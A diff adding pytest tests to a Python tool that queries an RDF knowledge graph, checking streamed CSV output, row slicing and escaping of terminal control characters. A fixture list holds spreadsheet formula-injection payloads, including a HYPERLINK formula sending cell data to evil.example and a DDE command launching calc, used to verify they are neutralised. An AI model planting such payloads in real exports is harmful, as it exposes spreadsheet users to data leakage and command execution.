@@ -2,16 +2,37 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
+import random
+import time
 from pathlib import Path
 
 import pyoxigraph as ox
 import pytest
+from click.testing import CliRunner
 from rdflib import Graph, Literal, URIRef
 
+from diplokg.cli import cli
 from diplokg.convert import ArticleGraph
-from diplokg.errors import QueryError
-from diplokg.queries import StoredQuery, get_query, run_query, stored_queries
+from diplokg.errors import QueryError, UsageError
+from diplokg.queries import (
+    FORMULA_START,
+    CsvGuard,
+    QueryResult,
+    StoredQuery,
+    check_slice,
+    format_table,
+    get_query,
+    neutralise_cell,
+    neutralise_csv,
+    run_query,
+    serialize_result,
+    slice_query,
+    stored_queries,
+    write_result,
+)
 
 ROOT = Path(__file__).resolve().parent.parent
 QUERY_DIR = ROOT / "queries"
@@ -273,3 +294,220 @@ def test_rdflib_gives_the_same_answer(
         assert theirs == ours
     else:
         assert sorted(theirs, key=str) == sorted(ours, key=str)
+
+
+# --- streamed output: the bytes of the in-memory formatter, formula cells neutralised -----
+
+#: Literals a spreadsheet would run, and CSV's own special characters around them.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "=line one\n=line two, with a comma",
+    'a "quoted" =cell',
+    "plain, with comma",
+]
+
+
+@pytest.fixture(scope="module")
+def nasty_store(seed_store: ox.Store) -> ox.Store:
+    """The seed store with names, labels and quote texts that spreadsheets would run."""
+    store = ox.Store()
+    store.extend(seed_store)
+    dk = "https://w3id.org/diplokg/ontology#"
+    names = [
+        q
+        for q in seed_store.quads_for_pattern(None, ox.NamedNode(dk + "name"), None)
+        if isinstance(q.subject, ox.NamedNode)
+    ]
+    quotes = list(seed_store.quads_for_pattern(None, ox.NamedNode(dk + "quoteText"), None))
+    for i, quad in enumerate(names[: len(FORMULAS)] + quotes[: len(FORMULAS)]):
+        store.remove(quad)
+        value = FORMULAS[i % len(FORMULAS)]
+        store.add(ox.Quad(quad.subject, quad.predicate, ox.Literal(value), quad.graph_name))
+    return store
+
+
+@pytest.fixture(scope="module")
+def synthetic_store(tmp_path_factory: pytest.TempPathFactory) -> ox.Store:
+    """A store of 60 synthetic articles (benchmarks/corpus.py) in the build layout."""
+    from benchmarks.corpus import article_graphs, generate_corpus
+
+    from diplokg.store import load_ontology_graph, write_articles
+
+    corpus = tmp_path_factory.mktemp("corpus")
+    generate_corpus(60, corpus, sources=False, workers=1)
+    store = ox.Store()
+    write_articles(store, article_graphs(corpus))
+    load_ontology_graph(store)
+    return store
+
+
+STORES = ["seed_store", "nasty_store", "synthetic_store"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "json"])
+@pytest.mark.parametrize("store_name", STORES)
+@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
+def test_streamed_bytes_are_the_formatters_bytes(
+    request: pytest.FixtureRequest, store_name: str, query: StoredQuery, fmt: str
+) -> None:
+    store = request.getfixturevalue(store_name)
+    params = SAMPLE_PARAMS.get(query.name, {})
+    out = io.BytesIO()
+    write_result(out, store, query, params, fmt)
+    assert out.getvalue() == serialize_result(store, query, params, fmt).encode("utf-8")
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [c for c in cells if c[:1] in FORMULA_START]
+
+
+def test_formula_cells_are_neutralised_in_the_csv(nasty_store: ox.Store) -> None:
+    out = io.BytesIO()
+    write_result(out, nasty_store, get_query("people"), {}, "csv")
+    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
+    names = {row["name"] for row in rows}
+    assert {n for n in names if n.startswith("'")}, names  # some were formulas
+    engine = nasty_store.query(get_query("people").text, use_default_graph_as_union=True)
+    assert isinstance(engine, ox.QuerySolutions)
+    assert {neutralise_cell(s["name"].value) for s in engine if s["name"]} == names
+
+
+def _random_csv(rng: random.Random, rows: int) -> str:
+    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "a", "b", " ", "é", "'"]
+    out = io.StringIO(newline="")
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerow(["x", "y", "z"])
+    for _ in range(rows):
+        writer.writerow(["".join(rng.choices(alphabet, k=rng.randint(0, 6))) for _ in range(3)])
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("seed", range(20))
+def test_csv_guard_neutralises_exactly_the_cells_that_start_a_formula(seed: int) -> None:
+    rng = random.Random(seed)  # noqa: S311 - test data
+    text = _random_csv(rng, 200)
+    data = text.encode("utf-8")
+    expected = [
+        [neutralise_cell(cell) for cell in row] if i else row
+        for i, row in enumerate(csv.reader(io.StringIO(text, newline="")))
+    ]
+    out = io.BytesIO()
+    guard = CsvGuard(out)
+    at = 0
+    while at < len(data):  # fed in pieces cut anywhere, as a serializer may write them
+        step = rng.randint(1, 40)
+        guard.write(data[at : at + step])
+        at += step
+    guard.close()
+    result = out.getvalue().decode("utf-8")
+    assert list(csv.reader(io.StringIO(result, newline=""))) == expected
+    assert result == neutralise_csv(text)
+
+
+# --- --limit and --offset ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("limit", "offset"), [(0, None), (1, None), (3, 2), (None, 4), (1000, 0)])
+@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
+def test_limit_and_offset_slice_every_stored_query(
+    synthetic_store: ox.Store, query: StoredQuery, limit: int | None, offset: int | None
+) -> None:
+    params = SAMPLE_PARAMS.get(query.name, {})
+    whole = run_query(synthetic_store, query, params).rows
+    part = run_query(synthetic_store, query, params, limit=limit, offset=offset).rows
+    start = offset or 0
+    end = len(whole) if limit is None else start + limit
+    assert len(part) == len(whole[start:end])
+    assert set(part) <= set(whole)
+
+
+@pytest.mark.parametrize("args", [["--limit", "-1"], ["--offset", "-3"], ["--limit", "x"]])
+def test_limit_and_offset_must_be_whole_numbers_from_zero(args: list[str]) -> None:
+    result = CliRunner().invoke(cli, ["query", "people", *args])
+    assert result.exit_code == 2
+    with pytest.raises(UsageError, match="whole number of rows"):
+        check_slice(-1, None)
+    with pytest.raises(UsageError, match="whole number of rows"):
+        check_slice(None, True)
+
+
+def test_cli_limit_and_offset_give_the_rows_of_the_whole_answer(
+    seed: ArticleGraph, tmp_path: Path
+) -> None:
+    from diplokg.output import serialize_graph
+    from diplokg.store import RdfFormat
+
+    data = tmp_path / "seed.trig"
+    data.write_bytes(serialize_graph(seed.graph, seed.graph_iri, RdfFormat.TRIG))
+    runner = CliRunner()
+    whole = runner.invoke(cli, ["query", "timeline", "--data", str(data), "--format", "csv"])
+    part = runner.invoke(
+        cli,
+        [
+            "query",
+            "timeline",
+            "--data",
+            str(data),
+            "--format",
+            "csv",
+            "--limit",
+            "3",
+            "--offset",
+            "2",
+        ],
+    )
+    assert whole.exit_code == part.exit_code == 0
+    lines = whole.stdout_bytes.split(b"\r\n")
+    assert len(lines) > 6
+    assert part.stdout_bytes.split(b"\r\n") == [lines[0], *lines[3:6], b""]
+
+
+def test_a_query_that_already_slices_is_not_sliced_twice() -> None:
+    with pytest.raises(QueryError, match="cannot be sliced"):
+        slice_query("SELECT * WHERE { ?s ?p ?o } LIMIT 5", limit=1)
+    assert slice_query("SELECT * WHERE { ?s ?p ?o } # LIMIT 5", limit=1).endswith("LIMIT 1\n")
+
+
+# --- streaming: the first rows before the rest is computed --------------------------------
+
+
+class _Stop(Exception):
+    pass
+
+
+class _FirstWrite(io.RawIOBase):
+    """An output that stops everything at the first bytes written (a reader like `head`)."""
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, data: bytes) -> int:  # type: ignore[override]
+        raise _Stop
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "json"])
+def test_first_rows_of_an_unsorted_result_arrive_before_the_rest_is_computed(
+    seed_store: ox.Store, fmt: str
+) -> None:
+    # Billions of rows: computed whole, this would take hours.
+    huge = StoredQuery(
+        "huge", "huge", "", (), "SELECT ?a ?b ?c WHERE { ?a ?p ?x . ?b ?q ?y . ?c ?r ?z }"
+    )
+    start = time.perf_counter()
+    with pytest.raises(_Stop):
+        write_result(_FirstWrite(), seed_store, huge, {}, fmt)  # type: ignore[arg-type]
+    assert time.perf_counter() - start < 5
+
+
+# --- the table: no terminal control characters --------------------------------------------
+
+
+def test_table_cells_show_control_characters_escaped() -> None:
+    row = (ox.Literal("red \x1b[31mALERT\x1b[0m\x07 and \x9b2J"),)
+    table = format_table(QueryResult(("x",), (row,)))
+    assert "\x1b" not in table and "\x07" not in table and "\x9b" not in table
+    assert "red \\x1b[31mALERT\\x1b[0m\\x07 and \\x9b2J" in table
